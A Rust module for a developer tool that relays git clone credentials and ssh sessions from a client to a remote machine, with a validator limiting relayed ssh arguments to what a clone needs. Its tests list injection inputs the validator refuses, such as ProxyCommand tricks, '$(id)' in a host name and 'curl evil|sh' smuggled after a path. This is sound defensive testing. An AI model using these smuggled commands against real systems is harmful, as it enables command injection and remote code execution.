//! The clone relay: while den on a machine clones a workspace's git
//! repository, git there borrows the client's credentials and the client's
//! ssh through the `remote-up` exec's own stdio.
//!
//! The agent says [`RELAY_OPEN`] instead of [`crate::NO_CONTENT`]; den then
//! keeps stdin open and both sides exchange [`RelayMsg`] lines (the agent's
//! prefixed with [`RELAY_PREFIX`] on stdout, den's plain on stdin) until the
//! agent says [`RELAY_CLOSE`], after which den closes stdin.
//!
//! - A credential question is git's helper input; the answer is what the
//!   client's `git credential fill` printed (nothing if it knows none).
//! - An ssh stream runs the client's own ssh (its config, known hosts and
//!   agent) with the arguments git gave the machine's ssh, piping bytes
//!   both ways: the git server sees a connection from the client, and no key
//!   or agent socket ever reaches the machine. The client runs only what a
//!   clone needs (see [`check_ssh_args`]).

pub mod helper_socket;

use serde::{Deserialize, Serialize};

use crate::{CredentialAnswer, CredentialRequest};

/// The agent relays from now on: keep stdin open.
pub const RELAY_OPEN: &str = "DEN-RELAY-OPEN";
/// The agent needs the relay no longer: close stdin.
pub const RELAY_CLOSE: &str = "DEN-RELAY-CLOSE";
/// A [`RelayMsg`] from the agent on stdout.
pub const RELAY_PREFIX: &str = "DEN-RELAY ";

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", tag = "kind")]
pub enum RelayMsg {
    /// Agent → den: git asks for a credential.
    Credential(CredentialRequest),
    /// den → agent.
    CredentialAnswer(CredentialAnswer),
    /// Agent → den: run ssh with these arguments (as git gave them) and
    /// `GIT_PROTOCOL` (empty: unset).
    SshOpen { channel: u64, args: Vec<String>, git_protocol: String },
    /// Bytes of a stream, base64 (either way).
    Data { channel: u64, data: String },
    /// den → agent: what the client's ssh wrote on stderr, base64.
    Stderr { channel: u64, data: String },
    /// The writer of a stream is done (either way).
    Eof { channel: u64 },
    /// den → agent: the client's ssh ended with this code (255: it could
    /// not run).
    Exit { channel: u64, code: i32 },
}

pub fn encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

pub fn decode(text: &str) -> Option<Vec<u8>> {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.decode(text).ok()
}

/// Where a relayed ssh goes: `user@host` as git gave it, the host alone
/// (lowercase) and the port when `-p` named one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SshTarget {
    pub destination: String,
    /// The user of `user@host`, when given.
    pub user: Option<String>,
    pub host: String,
    pub port: Option<u16>,
    /// The options (before the destination), as given.
    pub options: Vec<String>,
    pub command: String,
    /// The repository path the upload-pack is for, unquoted.
    pub path: String,
}

/// The ssh arguments den relays for a clone: the options git itself passes
/// (`-p PORT`, `-4`, `-6`, `-o SendEnv=GIT_PROTOCOL`), one destination of
/// plain host-name characters, and one `git-upload-pack` of one
/// shell-quoted path, nothing after it. Anything else (another option, a
/// `ProxyCommand`, a second command, shell text after the path) is
/// refused: the machine asks, but only for what a clone does.
pub fn check_ssh_args(args: &[String]) -> Result<SshTarget, String> {
    let mut i = 0;
    let mut port = None;
    while i < args.len() && args[i].starts_with('-') {
        match args[i].as_str() {
            "-4" | "-6" => {}
            "-p" => {
                i += 1;
                port = Some(
                    args.get(i)
                        .and_then(|p| p.parse::<u16>().ok())
                        .ok_or_else(|| "`-p` without a port number".to_string())?,
                );
            }
            "-o" => {
                i += 1;
                if args.get(i).map(String::as_str) != Some("SendEnv=GIT_PROTOCOL") {
                    return Err(format!("ssh option `{}` is not one git passes", args.get(i).map_or("", |s| s)));
                }
            }
            other => return Err(format!("ssh option `{other}` is not one git passes")),
        }
        i += 1;
    }
    let [destination, command] = &args[i..] else {
        return Err("not one destination and one `git-upload-pack` command".into());
    };
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-@:[]".contains(c);
    if destination.is_empty() || destination.starts_with('-') || !destination.chars().all(plain) {
        return Err(format!("`{destination}` is not a host name"));
    }
    let path =
        command.strip_prefix("git-upload-pack ").ok_or_else(|| "the command is not `git-upload-pack`".to_string())?;
    let Some(path) = unquote_one_word(path) else {
        return Err("the command is not `git-upload-pack` of one quoted path".into());
    };
    let (user, host) = match destination.rsplit_once('@') {
        Some((u, h)) => (Some(u.to_string()), h),
        None => (None, destination.as_str()),
    };
    Ok(SshTarget {
        destination: destination.clone(),
        user,
        host: host.to_ascii_lowercase(),
        path,
        port,
        options: args[..i].to_vec(),
        command: command.clone(),
    })
}

/// The word in `s` when it is one word as git quotes it for the shell
/// (`sq_quote`): `'…'`, where a `'` or `!` inside is written `'\''` or
/// `'\!'`, and nothing after.
fn unquote_one_word(s: &str) -> Option<String> {
    let mut rest = s.strip_prefix('\'')?;
    let mut word = String::new();
    loop {
        let close = rest.find('\'')?;
        word.push_str(&rest[..close]);
        rest = &rest[close + 1..];
        if rest.is_empty() {
            return Some(word);
        }
        if let Some(r) = rest.strip_prefix("\\'\'") {
            word.push('\'');
            rest = r;
        } else {
            word.push('!');
            rest = rest.strip_prefix("\\!\'")?;
        }
    }
}

/// `GIT_PROTOCOL` as git sets it (`version=2`), or nothing.
pub fn check_git_protocol(value: &str) -> bool {
    value.is_empty()
        || value.split(':').all(|part| {
            part.strip_prefix("version=").is_some_and(|v| !v.is_empty() && v.chars().all(|c| c.is_ascii_digit()))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(words: &[&str]) -> Vec<String> {
        words.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn what_git_passes_is_relayed() {
        let t = check_ssh_args(&v(&["git@Example.com", "git-upload-pack 'org/repo.git'"])).unwrap();
        assert_eq!((t.host.as_str(), t.port, t.destination.as_str()), ("example.com", None, "git@Example.com"));
        let t = check_ssh_args(&v(&["-o", "SendEnv=GIT_PROTOCOL", "-p", "2222", "-4", "me@h", "git-upload-pack '/r'"]))
            .unwrap();
        assert_eq!((t.port, t.options.len()), (Some(2222), 5));
        // git's quoting of a path with a quote and a `!` in it
        let t = check_ssh_args(&v(&["h", "git-upload-pack '/it'\\''s'\\!'x'"])).unwrap();
        assert_eq!((t.user, t.path.as_str()), (None, "/it's!x"));
        let t = check_ssh_args(&v(&["git@h", "git-upload-pack 'org/r.git'"])).unwrap();
        assert_eq!((t.user.as_deref(), t.path.as_str()), (Some("git"), "org/r.git"));
    }

    #[test]
    fn anything_else_is_refused() {
        for bad in [
            v(&["-oProxyCommand=touch /tmp/x", "h", "git-upload-pack 'r'"]),
            v(&["-o", "ProxyCommand=sh", "h", "git-upload-pack 'r'"]),
            v(&["-p", "22;x", "h", "git-upload-pack 'r'"]),
            v(&["-p"]),
            v(&["h", "sh -c id"]),
            v(&["h", "git-receive-pack 'r'"]),
            v(&["h", "git-upload-pack 'r'", "extra"]),
            v(&["-F", "/etc/passwd", "h", "git-upload-pack 'r'"]),
            v(&[]),
            v(&["h", "git-upload-pack 'x'; curl evil|sh; ''"]),
            v(&["h", "git-upload-pack 'x' y"]),
            v(&["h", "git-upload-pack 'x"]),
            v(&["a$(id)@h", "git-upload-pack 'r'"]),
            v(&["h;x", "git-upload-pack 'r'"]),
            v(&["-oProxyCommand=x", "git-upload-pack 'r'"]),
        ] {
            assert!(check_ssh_args(&bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn git_protocol_values() {
        assert!(check_git_protocol(""));
        assert!(check_git_protocol("version=2"));
        assert!(!check_git_protocol("version=2;rm"));
        assert!(!check_git_protocol("x=1"));
    }

    #[test]
    fn messages_round_trip() {
        let m = RelayMsg::Data { channel: 3, data: encode(b"\x00pack") };
        let line = serde_json::to_string(&m).unwrap();
        assert!(line.contains("\"kind\":\"data\""), "{line}");
        let back: RelayMsg = serde_json::from_str(&line).unwrap();
        assert_eq!(back, m);
        let RelayMsg::Data { data, .. } = back else { unreachable!() };
        assert_eq!(decode(&data).unwrap(), b"\x00pack");
    }
}
